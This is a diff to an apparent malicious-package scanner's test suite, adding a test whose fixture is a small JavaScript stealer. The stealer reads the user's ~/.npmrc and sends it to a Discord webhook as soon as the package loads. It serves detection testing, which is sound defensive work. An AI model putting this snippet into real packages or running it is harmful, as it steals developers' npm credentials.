@@ -156,3 +156,20 @@ def test_contagious_interview_style_loader_required_by_main() -> None:
     v, strong = verdict(data)
     assert v == "malicious", strong
     assert "package.download-exec:critical" in strong
+
+
+def test_npmrc_sent_to_a_discord_webhook_from_request_options() -> None:
+    stealer = ('const fs = require("fs"), os = require("os"), https = require("https");\n'
+               'function collect() {\n'
+               '  const npmrc = fs.readFileSync(os.homedir() + "/.npmrc", "utf8");\n'
+               '  const body = JSON.stringify({ npmrc });\n'  # shorthand property carries the taint
+               '  const req = https.request({ hostname: "discord.com", method: "POST",\n'
+               '                              path: "/api/webhooks/123456789012345678/abcdefghijklmnopqrstuvwxyz" });\n'
+               '  req.write(body); req.end();\n'
+               '}\n'
+               'module.exports = () => 1;\ncollect();\n')
+    facts = facts_of(npm_tgz("color-logs-fast", "1.0.0", {"index.js": stealer}))
+    flows = [s for s in facts.signals if s.kind == "flow.exfiltration"]
+    assert flows and "credential" in flows[0].detail["sources"]
+    v, strong = verdict(npm_tgz("color-logs-fast", "1.0.0", {"index.js": stealer}))
+    assert v == "malicious" and "package.bot-token-endpoint:critical" in strong, strong
